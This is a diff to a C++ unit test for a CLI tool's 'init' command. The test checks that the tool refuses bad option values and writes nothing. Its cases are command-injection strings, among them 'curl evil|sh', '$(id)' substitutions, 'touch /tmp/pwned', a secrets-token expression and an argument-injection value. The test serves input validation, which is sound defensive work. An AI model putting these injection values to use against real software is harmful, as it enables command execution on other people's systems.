@@ -58,9 +58,10 @@ TEST(InitGrammar, TheCliRefusesEachBadValueAndWritesNothing) {
   };
   for (const Case& c :
        {Case{"--image", "x:1;curl evil|sh"}, Case{"--image", "x:${{ secrets.TOKEN }}"},
-        Case{"--jetgate-ref", "--upload-pack=touch /tmp/pwned"},
-        Case{"--jetgate-repo", "https://x/$(id)"}, Case{"--test-junit", "a\nb.xml"},
-        Case{"--test-junit", "-o.xml"}}) {
+        Case{"--jetgate-version", "0.1.0;touch /tmp/pwned"},
+        Case{"--jetgate-release-url", "https://x/$(id)"}, Case{"--jetgate-sha256", "aarch64=$(id)"},
+        Case{"--pip-install", ". 'x;id'"}, Case{"--jetgate-repo", "https://x/$(id)"},
+        Case{"--test-junit", "a\nb.xml"}, Case{"--test-junit", "-o.xml"}}) {
     SCOPED_TRACE(std::string(c.option) + " " + c.value);
     test::TempDir t;
     auto r = test::run_jetgate({"init", "--dir", t.dir(), c.option, c.value});
